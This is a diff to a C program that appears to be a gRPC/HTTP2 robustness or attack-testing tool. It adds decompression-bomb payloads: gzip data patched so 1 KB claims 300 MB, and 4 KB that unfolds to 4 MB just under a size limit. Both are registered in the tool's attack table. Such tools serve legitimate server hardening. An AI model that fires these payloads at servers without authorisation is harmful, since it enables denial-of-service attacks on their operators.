@@ -389,6 +389,35 @@ static void deep_nesting(struct peer *p) {
     if (put_data(p, at + n == m->n ? END_STREAM : 0, p->next_id - 2, m->p + at, n)) at += n;
 }
 
+// Compressed messages that say, or are, more than their bytes: 1 KB that claims 300 MB, and 4 KB that are 4 MB.
+static void put_packed(struct peer *p, const struct bytes *packed) {
+    if (busy(p)) return;
+    struct bytes *b = head(UNARY);
+    put_literal(b, "grpc-encoding", "gzip", 4);
+    uint32_t id = put_headers(p, END_HEADERS, b);
+    unsigned char prefix[5] = {1};
+    put_u32(prefix + 1, (uint32_t)packed->n);
+    struct bytes whole = {0};
+    put(&whole, prefix, 5);
+    put(&whole, packed->p, packed->n);
+    if (!put_data(p, END_STREAM, id, whole.p, whole.n)) put_reset(p, id);
+    free(whole.p);
+}
+static void grpc_bomb(struct peer *p) {
+    static struct bytes made;
+    if (made.n == 0) {
+        made = gzip_bomb(1000 * 1000);
+        put_u32(made.p + made.n - 4,
+                __builtin_bswap32(300 * 1000 * 1000)); // the length, the lowest byte first
+    }
+    put_packed(p, &made);
+}
+static void grpc_bomb_within(struct peer *p) {
+    static struct bytes made;
+    if (made.n == 0) made = gzip_bomb(4 * 1000 * 1000);
+    put_packed(p, &made);
+}
+
 static void requests(struct peer *p) {
     if (busy(p)) return;
     put_call(p);
@@ -544,6 +573,10 @@ const struct attack ATTACKS[] = {
      .more = empty_messages},
     {.name = "utf8-message", .what = "strings that are not UTF-8", .more = utf8_message},
     {.name = "deep-nesting", .what = "messages nested 100,000 deep", .more = deep_nesting},
+    {.name = "grpc-bomb", .what = "1 KB of gzip that claims 300 MB", .more = grpc_bomb},
+    {.name = "grpc-bomb-within",
+     .what = "4 KB of gzip that unfold to 4 MB, below the limit",
+     .more = grpc_bomb_within},
     {.name = "json-nesting",
      .what = "JSON nested 100,000 deep",
      .more = json_nesting,
